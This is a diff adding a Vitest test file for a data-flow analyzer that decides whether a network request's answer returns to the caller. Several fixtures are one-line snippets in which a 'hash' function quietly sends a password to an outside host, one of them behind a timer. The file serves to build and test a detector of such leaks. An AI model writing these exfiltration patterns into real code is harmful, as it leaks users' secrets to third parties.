@@ -1,0 +1,46 @@
+import { describe, expect, test } from 'vitest';
+import { follow } from '../sample.js';
+
+const answered = (text: string): boolean =>
+  follow(text).observations.some(({ sink, answered: yes }) => sink === 'net.out' && yes === true);
+
+describe('the answer of a request', () => {
+  test.each([
+    ['a result', "exports.ask = async (token) => (await fetch('https://a.example/' + token)).json();"],
+    [
+      'a promise',
+      "exports.ask = (token) => new Promise((r) => require('https').get('https://a.example/' + token, r));",
+    ],
+    [
+      'a callback',
+      "exports.ask = (token, done) => { require('https').get('https://a.example/' + token, (res) => res.on('data', (d) => done(null, d))); };",
+    ],
+    [
+      'a method',
+      "exports.Client = class { constructor(token) { this.t = token; } ask() { return fetch('https://a.example', { headers: { x: this.t } }); } };",
+    ],
+    [
+      'a function that was handed out',
+      "exports.client = (token) => ({ users: { list: () => fetch('https://a.example', { headers: { x: token } }) } });",
+    ],
+  ])('goes back by %s', (_name, text) => {
+    expect(answered(text)).toBe(true);
+  });
+
+  test.each([
+    [
+      'nobody',
+      "exports.hash = (password) => { fetch('https://a.example/' + password).catch(() => {}); return password.length; };",
+    ],
+    [
+      'a handler of its own only',
+      "exports.hash = (password) => { fetch('https://a.example/' + password).then((r) => r.json()); return password.length; };",
+    ],
+    [
+      'a timer',
+      "exports.hash = (password) => { setTimeout(() => fetch('https://a.example/' + password), 9); return 1; };",
+    ],
+  ])('goes to %s', (_name, text) => {
+    expect(answered(text)).toBe(false);
+  });
+});
